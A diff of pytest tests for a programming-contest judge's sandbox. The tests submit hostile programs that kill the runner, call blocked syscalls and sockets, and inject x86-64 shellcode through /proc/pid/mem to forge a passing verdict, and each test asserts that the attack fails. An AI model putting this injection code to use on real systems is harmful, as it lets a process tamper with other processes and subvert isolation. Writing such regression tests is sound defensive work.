@@ -76,28 +76,49 @@ def _judge(judge: ContestJudge, problem, language: str, code: str):
     return result
 
 
+@pytest.mark.parametrize("use_bwrap", [True, False], ids=["bwrap", "uid-only"])
 @pytest.mark.parametrize(
-    "language,code",
+    "language,code,under_bwrap",
     [
-        ("c", "#include <signal.h>\n#include <unistd.h>\nint main(void){kill(getppid(), SIGKILL); for(;;); }\n"),
+        (
+            "c",
+            "#include <signal.h>\n#include <unistd.h>\nint main(void){kill(getppid(), SIGKILL); for(;;); }\n",
+            Verdict.TLE,
+        ),
         (
             "c",
             "#include <signal.h>\n#include <unistd.h>\n"
             "int main(void){ if(fork()==0){for(;;);} kill(-1, SIGKILL); for(;;); }\n",
+            Verdict.TLE,
         ),
-        ("python", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nprint(7)\n"),
+        ("python", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nprint(7)\n", Verdict.AC),
     ],
     ids=["c-kill-parent", "c-kill-minus-one", "python-kill-parent"],
 )
-def test_a_program_that_kills_its_runner_gets_a_verdict(judge, two_second_problem, language, code):
-    result = _judge(judge, two_second_problem, language, code)
-    assert result.verdict == Verdict.RE, result.summary()
-    assert "killed its runner" in result.tests[0].detail
+def test_a_program_that_kills_its_runner_gets_a_verdict(
+    tmp_path, two_second_problem, monkeypatch, language, code, under_bwrap, use_bwrap
+):
+    """Without bubblewrap the program can kill its runner (same uid): RE "killed its runner". Under bubblewrap the
+    runner is the pid namespace's process 1, which takes no SIGKILL from inside: the kill fails and the program
+    gets the verdict the rest of it earns (its endless loop TLE, the Python one's answer AC)."""
+    from cojudge_assets.core.execution import sandbox
+
+    if use_bwrap and isolation_level() != "bwrap":
+        pytest.skip("no bubblewrap here")
+    if not use_bwrap:
+        monkeypatch.setattr(sandbox, "bwrap_path", lambda: None)
+    result = _judge(ContestJudge(tmp_path / "cache", workers=1), two_second_problem, language, code)
+    if use_bwrap:
+        assert result.verdict == under_bwrap, result.summary()
+    else:
+        assert result.verdict == Verdict.RE, result.summary()
+        assert "killed its runner" in result.tests[0].detail
     assert result.tests[0].wall_s < WALL_LIMIT_S + KILL_MARGIN_S
 
 
 def test_killing_the_runner_does_not_crash_judge_many(judge, two_second_problem):
-    """One hostile submission among good ones: every item gets its verdict (the label audit's call)."""
+    """One hostile submission among good ones: every item gets its verdict (the label audit's call): WA under
+    bubblewrap (the kill fails, it prints nothing), RE where it can kill its runner."""
     good = "a, b = map(int, input().split())\nprint(a + b)\n"
     hostile = "#include <signal.h>\n#include <unistd.h>\nint main(void){kill(getppid(), SIGKILL); return 0;}\n"
     results = judge.judge_many(
@@ -107,7 +128,8 @@ def test_killing_the_runner_does_not_crash_judge_many(judge, two_second_problem)
             (two_second_problem, "python", good + "# again\n"),
         ]
     )
-    assert [r.verdict for r in results] == [Verdict.AC, Verdict.RE, Verdict.AC]
+    hostile_verdict = Verdict.WA if isolation_level() == "bwrap" else Verdict.RE
+    assert [r.verdict for r in results] == [Verdict.AC, hostile_verdict, Verdict.AC]
     assert _leftovers() == ([], [])
 
 
@@ -491,7 +513,9 @@ _CALL_HEAD = r"""#define _GNU_SOURCE
 #include <unistd.h>
 #include <linux/perf_event.h>
 #include <sys/mount.h>
+#include <sys/personality.h>
 #include <sys/ptrace.h>
+#include <sys/socket.h>
 #include <sys/syscall.h>
 #include <sys/uio.h>
 static void report(long r, int expected) {
@@ -528,6 +552,17 @@ DENIED_CALLS = {
     "userfaultfd": "report(syscall(SYS_userfaultfd, 0), EPERM);",
     "kexec_load": "report(syscall(SYS_kexec_load, 0, 0, 0, 0), EPERM);",
     "io_uring_setup": "char params[120] = {0}; report(syscall(SYS_io_uring_setup, 1, params), EPERM);",
+    # issue 34: socket families but AF_UNIX (vsock reaches a virtual machine's host), personality, modify_ldt
+    "socket-vsock": "report(socket(40 /* AF_VSOCK */, SOCK_STREAM, 0), EPERM);",
+    "socket-netlink": "report(socket(AF_NETLINK, SOCK_RAW, 0 /* NETLINK_ROUTE */), EPERM);",
+    "socket-inet": "report(socket(AF_INET, SOCK_STREAM, 0), EPERM);",
+    "socket-packet": "report(socket(AF_PACKET, SOCK_RAW, 0), EPERM);",
+    "socket-vsock-junk-upper-half": "report(syscall(SYS_socket, (1UL << 32) | 40, SOCK_STREAM, 0), EPERM);",
+    "socket-unix-junk-upper-half": "report(syscall(SYS_socket, (1UL << 32) | AF_UNIX, SOCK_STREAM, 0), EPERM);",
+    "socketpair-inet": "int sv[2]; report(socketpair(AF_INET, SOCK_STREAM, 0, sv), EPERM);",
+    "personality-no-aslr": "report(personality(ADDR_NO_RANDOMIZE), EPERM);",
+    "personality-query": "report(syscall(SYS_personality, 0xffffffffUL), EPERM);",
+    "modify_ldt": "char ldt[16]; report(syscall(SYS_modify_ldt, 0, ldt, sizeof ldt), EPERM);",
 }
 
 
@@ -550,6 +585,18 @@ def test_a_denied_call_fails_with_eperm(judge, denied_problem, call):
     result = _judge(judge, denied_problem, "c", _call_program(DENIED_CALLS[call]))
     assert result.verdict == Verdict.AC, result.summary()
     assert "+ seccomp" in result.isolation
+
+
+@pytest.mark.skipif(filter_support().bpf is None, reason=f"no seccomp filter here: {filter_support().reason}")
+def test_unix_sockets_still_work_under_the_filter(judge, denied_problem):
+    """AF_UNIX is the one family allowed: a socket and a connected pair of them work (a runtime may use them)."""
+    body = (
+        "int sv[2]; char c = 0; int s = socket(AF_UNIX, SOCK_STREAM, 0);"
+        ' if (s >= 0 && socketpair(AF_UNIX, SOCK_STREAM, 0, sv) == 0 && write(sv[0], "x", 1) == 1'
+        ' && read(sv[1], &c, 1) == 1 && c == 120) puts("denied"); else perror("unix socket");'
+    )
+    result = _judge(judge, denied_problem, "c", _call_program(body))
+    assert result.verdict == Verdict.AC, result.summary()
 
 
 _OTHER_ABIS = {
@@ -584,16 +631,31 @@ def test_without_bubblewrap_the_runner_installs_the_filter(tmp_path, denied_prob
 
 
 def test_without_the_filter_the_record_says_so_and_the_call_goes_through(tmp_path, denied_problem, monkeypatch):
-    """COJUDGE_SECCOMP=off: the isolation record says "none" and why; and the same unshare then succeeds inside
-    bubblewrap (what the filter tests above would see without it)."""
+    """COJUDGE_SECCOMP=off: the isolation record says "none" and why; and keyctl then succeeds inside bubblewrap
+    (what the filter tests above would see without it)."""
     monkeypatch.setenv("COJUDGE_SECCOMP", "off")
     result = _judge(
-        ContestJudge(tmp_path / "cache", workers=1), denied_problem, "c", _call_program(DENIED_CALLS["unshare-user"])
+        ContestJudge(tmp_path / "cache", workers=1), denied_problem, "c", _call_program(DENIED_CALLS["keyctl"])
     )
     assert "seccomp" not in result.isolation
     assert result.isolation_limits["syscalls"] == "none: turned off by COJUDGE_SECCOMP"
     if isolation_level() == "bwrap":
-        assert result.verdict == Verdict.WA, result.summary()  # "allowed: returned 0"
+        assert result.verdict == Verdict.WA, result.summary()  # "allowed: returned <the keyring's id>"
+
+
+@pytest.mark.skipif(isolation_level() != "bwrap", reason="--disable-userns is bubblewrap's")
+def test_even_without_the_filter_no_user_namespace_can_be_made_under_bubblewrap(tmp_path, denied_problem, monkeypatch):
+    """bubblewrap's --disable-userns (max_user_namespaces 0 inside): with COJUDGE_SECCOMP=off, unshare(CLONE_NEWUSER)
+    fails with ENOSPC, where it succeeded before (the way to mount and the rest, which the filter otherwise stops)."""
+    monkeypatch.setenv("COJUDGE_SECCOMP", "off")
+    result = _judge(
+        ContestJudge(tmp_path / "cache", workers=1),
+        denied_problem,
+        "c",
+        _call_program("report(unshare(CLONE_NEWUSER), ENOSPC);"),
+    )
+    assert "seccomp" not in result.isolation
+    assert result.verdict == Verdict.AC, result.summary()
 
 
 @pytest.mark.parametrize("use_bwrap", [True, False], ids=["bwrap", "runner"])
@@ -683,6 +745,40 @@ def test_a_run_killed_at_the_cpu_limit_reports_at_least_the_limit(tmp_path, monk
     assert delayed, "the baseline read was not delayed"
     assert result.cpu_killed and result.cpu_limit_hit and result.cpu_source == "cgroup"
     assert result.cpu_s >= limits.cpu_s, result
+    assert _leftovers() == ([], [])
+
+
+@pytest.mark.parametrize("cgroups", ["on", "off"])
+def test_a_busy_loop_stopped_for_its_cpu_time_reports_at_least_the_limit(tmp_path, monkeypatch, cgroups):
+    """On this (busy, shared) machine RLIMIT_CPU at the limit stopped a 2 s busy loop at 1.68-1.88 s measured, 3
+    runs of 3, with and without the run group ("killed at the CPU limit (1.81s used, limit 2.0s)"): the kernel's
+    tick count ran ahead. RLIMIT_CPU is now a backstop above the limit; the run group's watchdog stops it at the
+    limit as measured, and without a run group the backstop stops it past the limit."""
+    if cgroups == "off":
+        monkeypatch.setenv("COJUDGE_CGROUPS", "off")
+        cgroup_support.cache_clear()
+    box = Path(tempfile.mkdtemp(prefix="cojudge-faults-"))
+    try:
+        os.chmod(box, 0o755)
+        (box / "burn.c").write_text("int main(void){volatile unsigned long x = 0; for (;;) x++;}\n")
+        subprocess.run(["gcc", "-O2", "-o", str(box / "burn"), str(box / "burn.c")], check=True)
+        limits = Limits(cpu_s=1.0, wall_s=60)
+        result = run_sandboxed(
+            ["./burn"],
+            box=box,
+            build_dir=tmp_path,
+            limits=limits,
+            stdout_path=tmp_path / "out",
+            stderr_path=tmp_path / "err",
+        )
+    finally:
+        shutil.rmtree(box, ignore_errors=True)
+        monkeypatch.delenv("COJUDGE_CGROUPS", raising=False)
+        cgroup_support.cache_clear()
+    assert result.cpu_limit_hit and not result.wall_killed, result
+    assert result.cpu_s >= limits.cpu_s, result
+    if cgroups == "on" and cgroup_support().cpu is not None:
+        assert result.cpu_killed and result.cpu_source == "cgroup", result  # the watchdog, not RLIMIT_CPU
     assert _leftovers() == ([], [])
 
 
@@ -787,3 +883,227 @@ def test_a_cache_on_another_filesystem_is_copied_once_per_process_not_per_test(t
         assert len(inodes) == 1 and (artifact / name).stat().st_ino not in inodes, name
         assert (boxes[0] / name).read_bytes() == (artifact / name).read_bytes()
     assert len({(box / "writable").stat().st_ino for box in boxes}) == 3
+
+
+# -- a runner the program cannot touch (issue 34) ------------------------------------------------------------
+# A program that wrote /proc/<runner>/mem rewrote the runner's report: a crash was judged AC. Each attack below
+# injects, where the target waits in a system call (/proc/<pid>/syscall's last field), code that writes a forged
+# report ("exit status 0, no CPU") to the runner's report descriptor (its argv[1], in /proc/<pid>/cmdline) and
+# exits; then the program crashes. The runner is non-dumpable and, under bubblewrap, the pid namespace's process 1
+# (no bubblewrap init beside it), so every such write fails and the crash is judged as a crash.
+
+_FORGE_C = r"""#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+static const char line[] = "0 0.000000 0.000000 0\n";
+/* write(report fd, line, len); exit_group(0), at the instruction pid returns to from its system call */
+static void forge(int pid) {
+    char path[64], buf[512];
+    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
+    int c = open(path, O_RDONLY);
+    if (c < 0) return;
+    ssize_t n = read(c, buf, sizeof buf - 1);
+    close(c);
+    if (n <= 0) return;
+    buf[n] = 0;
+    int fd = (size_t)n > strlen(buf) + 1 ? atoi(buf + strlen(buf) + 1) : 1;
+    unsigned long pc = 0;
+    snprintf(path, sizeof path, "/proc/%d/syscall", pid);
+    for (int tries = 0; tries < 200 && !pc; tries++) { /* "running" until it waits in wait4: up to 1 s */
+        FILE *f = fopen(path, "r");
+        if (!f) break;
+        if (fgets(buf, sizeof buf, f) && buf[0] >= '0' && buf[0] <= '9') {
+            char *last = strrchr(buf, ' ');
+            if (last) pc = strtoul(last + 1, 0, 16);
+        }
+        fclose(f);
+        if (!pc) usleep(5000);
+    }
+    unsigned char code[80] = {0x48, 0x8d, 0x35, 0x1a, 0, 0, 0, 0xbf, 0, 0, 0, 0, 0xba, 0, 0, 0, 0,
+                              0xb8, 1, 0, 0, 0, 0x0f, 0x05, 0x31, 0xff, 0xb8, 0xe7, 0, 0, 0, 0x0f, 0x05};
+    int len = sizeof line - 1;
+    memcpy(code + 8, &fd, 4);
+    memcpy(code + 13, &len, 4);
+    memcpy(code + 33, line, len);
+    snprintf(path, sizeof path, "/proc/%d/mem", pid);
+    int m = open(path, O_RDWR);
+    if (m < 0) { fprintf(stderr, "pid %d: mem: %s\n", pid, strerror(errno)); return; }
+    if (pc) fprintf(stderr, "pid %d: wrote %zd bytes\n", pid, pwrite(m, code, 33 + len, (off_t)pc));
+    else fprintf(stderr, "pid %d: mem open, no pc\n", pid);
+    close(m);
+}
+int main(void) {
+    puts("ANSWER");
+    fflush(stdout);
+    if (EVERY) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while ((e = readdir(d))) if (atoi(e->d_name) > 0 && atoi(e->d_name) != getpid()) forge(atoi(e->d_name));
+    } else forge(getppid());
+    ENDING;
+    return 0;
+}
+"""
+
+_FORGE_PY = r"""import os, signal, struct, sys, time
+print("7", flush=True)
+line = b"0 0.000000 0.000000 0\n"
+pid = os.getppid()
+try:
+    fd = int(open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")[1])
+    for _ in range(200):  # "running" until it waits in wait4: up to 1 s
+        fields = open(f"/proc/{pid}/syscall").read().split()
+        if fields[0].isdigit():
+            break
+        time.sleep(0.005)
+    pc = int(fields[-1], 16)
+    code = bytes([0x48, 0x8D, 0x35, 0x1A, 0, 0, 0, 0xBF]) + struct.pack("<i", fd) + b"\xba"
+    code += struct.pack("<i", len(line)) + bytes([0xB8, 1, 0, 0, 0, 0x0F, 0x05, 0x31, 0xFF, 0xB8, 0xE7, 0, 0, 0])
+    code += bytes([0x0F, 0x05]) + line
+    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
+        mem.seek(pc)
+        mem.write(code)
+except OSError as exc:
+    print(exc, file=sys.stderr, flush=True)
+os.kill(os.getpid(), signal.SIGSEGV)
+"""
+
+needs_x86_64 = pytest.mark.skipif(os.uname().machine != "x86_64", reason="the injected code is x86-64's")
+
+
+def _forge(*, every: bool, answer: str = "7", ending: str = "*(volatile int *)0 = 1") -> str:
+    return _FORGE_C.replace("ANSWER", answer).replace("EVERY", "1" if every else "0").replace("ENDING", ending)
+
+
+@needs_x86_64
+@pytest.mark.parametrize("use_bwrap", [True, False], ids=["bwrap", "uid-only"])
+@pytest.mark.parametrize("language", ["c", "python"])
+def test_a_crashing_program_cannot_forge_its_runner_s_report(
+    tmp_path, two_second_problem, monkeypatch, use_bwrap, language
+):
+    """The forge of the issue: the program prints the right answer, rewrites its runner (its parent) to report
+    "exit 0", then crashes. Before: AC. Now the write fails and the crash is RE 'signal 11'."""
+    from cojudge_assets.core.execution import sandbox
+
+    if use_bwrap and isolation_level() != "bwrap":
+        pytest.skip("no bubblewrap here")
+    if not use_bwrap:
+        if os.geteuid() != 0:
+            pytest.skip("the mode without bubblewrap that contains a program is the uid-only mode of root")
+        monkeypatch.setattr(sandbox, "bwrap_path", lambda: None)
+    code = _forge(every=False) if language == "c" else _FORGE_PY
+    result = _judge(ContestJudge(tmp_path / "cache", workers=1), two_second_problem, language, code)
+    assert result.verdict == Verdict.RE, result.summary()
+    assert result.tests[0].detail.startswith(f"signal {signal.SIGSEGV}"), result.summary()
+    assert "Permission denied" in result.tests[0].detail or "PermissionError" in result.tests[0].detail
+
+
+@needs_x86_64
+@pytest.mark.parametrize(
+    "answer,ending,verdict,detail",
+    [
+        ("7", "*(volatile int *)0 = 1", Verdict.RE, f"signal {signal.SIGSEGV}"),
+        ("7", "return 3", Verdict.RE, "exit status 3"),
+        ("8", "return 0", Verdict.WA, "output differs"),
+    ],
+    ids=["crash", "exit-3", "wrong-answer"],
+)
+def test_writing_the_memory_of_every_process_it_sees_changes_no_verdict(
+    judge, two_second_problem, answer, ending, verdict, detail
+):
+    """The same code written into /proc/<pid>/mem of every process in /proc/[0-9]* (the runner, and bubblewrap's
+    init before it was removed): every write fails, and each program gets the verdict its own ending earns."""
+    result = _judge(judge, two_second_problem, "c", _forge(every=True, answer=answer, ending=ending))
+    assert result.verdict == verdict, result.summary()
+    assert result.tests[0].detail.startswith(detail), result.summary()
+    assert "bytes" not in result.tests[0].detail, result.summary()  # no write went through
+
+
+_REACH_RUNNER_C = r"""#define _GNU_SOURCE
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+int main(void) {
+    int reached = 0, fds = 0;
+    DIR *d = opendir("/proc/self/fd");
+    struct dirent *e;
+    while ((e = readdir(d))) if (e->d_name[0] != '.' && atoi(e->d_name) != dirfd(d)) {
+        fds++;
+        if (atoi(e->d_name) > 2) printf("descriptor %s\n", e->d_name);
+    }
+    closedir(d);
+    /* the runner's report descriptor, reopened through /proc, and its memory */
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%d/fd", getppid());
+    if ((d = opendir(path))) {
+        while ((e = readdir(d))) if (e->d_name[0] != '.') {
+            snprintf(path, sizeof path, "/proc/%d/fd/%s", getppid(), e->d_name);
+            int w = open(path, O_WRONLY | O_NONBLOCK);
+            if (w >= 0) { printf("reopened the runner's descriptor %s\n", e->d_name); reached++; close(w); }
+        }
+        closedir(d);
+    }
+    snprintf(path, sizeof path, "/proc/%d/mem", getppid());
+    int m = open(path, O_RDWR);
+    if (m >= 0) { puts("opened the runner's memory"); reached++; }
+    if (fds == 3 && reached == 0) puts("7");
+    return 0;
+}
+"""
+
+
+@pytest.mark.parametrize("use_bwrap", [True, False], ids=["bwrap", "uid-only"])
+def test_the_program_holds_no_descriptor_but_its_standard_streams_and_cannot_reopen_the_runner_s(
+    tmp_path, two_second_problem, monkeypatch, use_bwrap
+):
+    """The verdict travels on a pipe the program has no descriptor for (0, 1 and 2 only), and it cannot get one
+    through /proc/<runner>/fd or write the runner's memory: it prints 7 only then."""
+    from cojudge_assets.core.execution import sandbox
+
+    if use_bwrap and isolation_level() != "bwrap":
+        pytest.skip("no bubblewrap here")
+    if not use_bwrap:
+        if os.geteuid() != 0:
+            pytest.skip("the mode without bubblewrap that contains a program is the uid-only mode of root")
+        monkeypatch.setattr(sandbox, "bwrap_path", lambda: None)
+    result = _judge(ContestJudge(tmp_path / "cache", workers=1), two_second_problem, "c", _REACH_RUNNER_C)
+    assert result.verdict == Verdict.AC, result.summary()
+
+
+@pytest.mark.skipif(isolation_level() != "bwrap", reason="the runner is process 1 under bubblewrap only")
+def test_under_bubblewrap_the_runner_is_the_only_other_process_the_program_sees(judge, two_second_problem):
+    """No bubblewrap init beside the runner (it ran outside the seccomp filter and its memory was writable)."""
+    code = r"""#include <dirent.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <unistd.h>
+int main(void) {
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    int others = 0;
+    while ((e = readdir(d))) if (atoi(e->d_name) > 0 && atoi(e->d_name) != getpid()) others++;
+    if (others == 1 && getppid() == 1) puts("7");
+    else printf("%d other processes, parent %d\n", others, getppid());
+    return 0;
+}
+"""
+    result = _judge(judge, two_second_problem, "c", code)
+    assert result.verdict == Verdict.AC, result.summary()
+
+
+@needs_x86_64
+def test_the_forge_fails_with_the_seccomp_filter_off_too(tmp_path, two_second_problem, monkeypatch):
+    """The runner's protection is not the filter's: with COJUDGE_SECCOMP=off the write to its memory still fails."""
+    monkeypatch.setenv("COJUDGE_SECCOMP", "off")
+    result = _judge(ContestJudge(tmp_path / "cache", workers=1), two_second_problem, "c", _forge(every=True))
+    assert "seccomp" not in result.isolation
+    assert result.verdict == Verdict.RE, result.summary()
+    assert result.tests[0].detail.startswith(f"signal {signal.SIGSEGV}"), result.summary()
